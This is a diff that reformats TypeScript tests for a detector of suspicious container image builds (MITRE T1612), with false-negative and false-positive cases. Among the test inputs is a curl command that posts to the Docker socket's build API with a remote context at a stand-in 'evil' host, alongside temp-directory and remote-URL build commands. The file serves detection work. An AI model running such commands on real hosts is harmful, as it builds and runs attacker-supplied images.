@@ -4,7 +4,12 @@
  */
 import { detect, ModelEvent } from '../../src/detection/model';
 
-const ev = (process: string, extra: Partial<ModelEvent> = {}): ModelEvent => ({ t1612_source: 'test', event_kind: 'process', process, ...extra });
+const ev = (process: string, extra: Partial<ModelEvent> = {}): ModelEvent => ({
+  t1612_source: 'test',
+  event_kind: 'process',
+  process,
+  ...extra,
+});
 const HOME = { process_current_directory: '/home/alice/web' };
 
 describe('§6.2 false negatives of the seed are found', () => {
@@ -13,7 +18,11 @@ describe('§6.2 false negatives of the seed are found', () => {
     ['docker --context remote build -t x /tmp/x', {}, ['from_temp']],
     ['docker --log-level debug build -t x /tmp/x', {}, ['from_temp']],
     ['docker -D build -t x /tmp/x', {}, ['from_temp']],
-    ['"C:\\Program Files\\Docker\\Docker\\resources\\bin\\docker.exe"  build -t x C:\\Users\\u\\AppData\\Local\\Temp\\x', {}, ['from_temp']],
+    [
+      '"C:\\Program Files\\Docker\\Docker\\resources\\bin\\docker.exe"  build -t x C:\\Users\\u\\AppData\\Local\\Temp\\x',
+      {},
+      ['from_temp'],
+    ],
     ['podman build -t x /tmp/x', {}, ['from_temp']],
     ['buildah bud -t x /tmp/x', {}, ['from_temp']],
     ['nerdctl build -t x /tmp/x', {}, ['from_temp']],
@@ -29,12 +38,27 @@ describe('§6.2 false negatives of the seed are found', () => {
     ['docker build -t x http://10.1.2.3/ctx.tar', HOME, ['external_file']],
     ['docker build --file https://x/Dockerfile .', HOME, ['external_file']],
     ['docker build -f=https://x/Dockerfile .', HOME, ['external_file']],
-    ['curl --unix-socket /var/run/docker.sock -X POST "http://localhost/v1.41/build?t=x&remote=https://evil/r.git"', {}, ['external_file', 'api_build']],
+    [
+      'curl --unix-socket /var/run/docker.sock -X POST "http://localhost/v1.41/build?t=x&remote=https://evil/r.git"',
+      {},
+      ['external_file', 'api_build'],
+    ],
     ['docker.exe build -t x C:\\Users\\u\\AppData\\Local\\Temp\\x', {}, ['from_temp']],
   ])('%s → alerts with %j', (line, extra, signals) => {
     const d = detect(ev(line, extra));
     expect(d.t1612_activity).not.toBe('none');
-    const fired = (['from_temp', 'no_cache', 'external_file', 'suspicious_parent', 'stdin_dockerfile', 'api_build', 'socket_mount', 'privileged_run'] as const).filter((s) => d[s] === 1);
+    const fired = (
+      [
+        'from_temp',
+        'no_cache',
+        'external_file',
+        'suspicious_parent',
+        'stdin_dockerfile',
+        'api_build',
+        'socket_mount',
+        'privileged_run',
+      ] as const
+    ).filter((s) => d[s] === 1);
     expect(fired).toEqual(signals);
     expect(d.risk_score).toBeGreaterThanOrEqual(2);
     expect(d.alert_detail).toBeDefined();
@@ -50,8 +74,20 @@ describe('§6.3 false positives of the seed do not alert (or score only what is 
     ['via sshd', { parent_process: 'sshd: alice@pts/0', parent_process_name: 'sshd' }],
     ['from a git push hook', { parent_process: 'git push origin main', parent_process_name: 'git' }],
     ['from make publish', { parent_process: 'make publish', parent_process_name: 'make' }],
-    ['from interactive PowerShell', { parent_process: 'powershell.exe', parent_process_name: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' }],
-    ['from containerd-shim', { parent_process: '/usr/bin/containerd-shim-runc-v2 -namespace moby', parent_process_name: 'containerd-shim-runc-v2' }],
+    [
+      'from interactive PowerShell',
+      {
+        parent_process: 'powershell.exe',
+        parent_process_name: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+      },
+    ],
+    [
+      'from containerd-shim',
+      {
+        parent_process: '/usr/bin/containerd-shim-runc-v2 -namespace moby',
+        parent_process_name: 'containerd-shim-runc-v2',
+      },
+    ],
     ['parent under /usr/share', { parent_process: '/usr/share/code/code', parent_process_name: 'code' }],
   ])('docker build -t web:1.4 . %s', (_, extra) => {
     const d = detect(ev('docker build -t web:1.4 .', { ...HOME, ...extra }));
@@ -61,18 +97,31 @@ describe('§6.3 false positives of the seed do not alert (or score only what is 
   });
 
   it('the ART T1612 command run by its sh executor: a scripted build (+2) — not a temp/remote signal', () => {
-    const d = detect(ev('docker build -t t1612 /root/AtomicRedTeam/atomics/T1612/src/', { parent_process: 'sh -c docker build -t t1612 /root/AtomicRedTeam/atomics/T1612/src/' }));
+    const d = detect(
+      ev('docker build -t t1612 /root/AtomicRedTeam/atomics/T1612/src/', {
+        parent_process: 'sh -c docker build -t t1612 /root/AtomicRedTeam/atomics/T1612/src/',
+      }),
+    );
     expect([d.from_temp, d.external_file, d.suspicious_parent, d.risk_score]).toEqual([0, 0, 1, 2]);
   });
 
   it('GitHub build-push-action: --iidfile in /tmp does not count; the git context does (external, as it truly is)', () => {
-    const d = detect(ev('docker buildx build --iidfile /tmp/docker-actions-toolkit-AbC/iidfile --tag o/r:sha https://github.com/o/r.git#abc123', { process_current_directory: '/home/runner/work/r/r' }));
+    const d = detect(
+      ev(
+        'docker buildx build --iidfile /tmp/docker-actions-toolkit-AbC/iidfile --tag o/r:sha https://github.com/o/r.git#abc123',
+        { process_current_directory: '/home/runner/work/r/r' },
+      ),
+    );
     expect([d.from_temp, d.external_file]).toEqual([0, 1]);
     expect(d.t1612_reasons).toEqual(['remote context: https://github.com/o/r.git#abc123']);
   });
 
   it('--cache-to /tmp … --no-cache . scores only the no-cache (1), below the threshold', () => {
-    const d = detect(ev('docker buildx build --cache-to type=local,dest=/tmp/.buildx-cache-new --no-cache -t app .', { process_current_directory: '/srv/app' }));
+    const d = detect(
+      ev('docker buildx build --cache-to type=local,dest=/tmp/.buildx-cache-new --no-cache -t app .', {
+        process_current_directory: '/srv/app',
+      }),
+    );
     expect([d.from_temp, d.no_cache, d.risk_score]).toEqual([0, 1, 1]);
     expect(d.alert_detail).toBeUndefined();
   });
@@ -101,12 +150,25 @@ describe('§6.3 false positives of the seed do not alert (or score only what is 
 
   it('sudo docker build: sudo and its docker child are each one build (the child is not double-counted by substring)', () => {
     const sudo = detect(ev('sudo docker build -t x .', { ...HOME, parent_process: 'bash' }));
-    const child = detect(ev('docker build -t x .', { ...HOME, parent_process: 'sudo docker build -t x .', parent_process_name: 'sudo' }));
-    expect([sudo.t1612_activity, sudo.risk_score, child.t1612_activity, child.risk_score]).toEqual(['build', 0, 'build', 0]);
+    const child = detect(
+      ev('docker build -t x .', { ...HOME, parent_process: 'sudo docker build -t x .', parent_process_name: 'sudo' }),
+    );
+    expect([sudo.t1612_activity, sudo.risk_score, child.t1612_activity, child.risk_score]).toEqual([
+      'build',
+      0,
+      'build',
+      0,
+    ]);
   });
 
   it('the buildx plugin child (docker-buildx buildx build …) is recognised; its docker parent is not suspicious', () => {
-    const d = detect(ev('/usr/libexec/docker/cli-plugins/docker-buildx buildx build -t x .', { ...HOME, parent_process: 'docker buildx build -t x .', parent_process_name: 'docker' }));
+    const d = detect(
+      ev('/usr/libexec/docker/cli-plugins/docker-buildx buildx build -t x .', {
+        ...HOME,
+        parent_process: 'docker buildx build -t x .',
+        parent_process_name: 'docker',
+      }),
+    );
     expect([d.t1612_activity, d.risk_score]).toEqual(['build', 0]);
   });
 
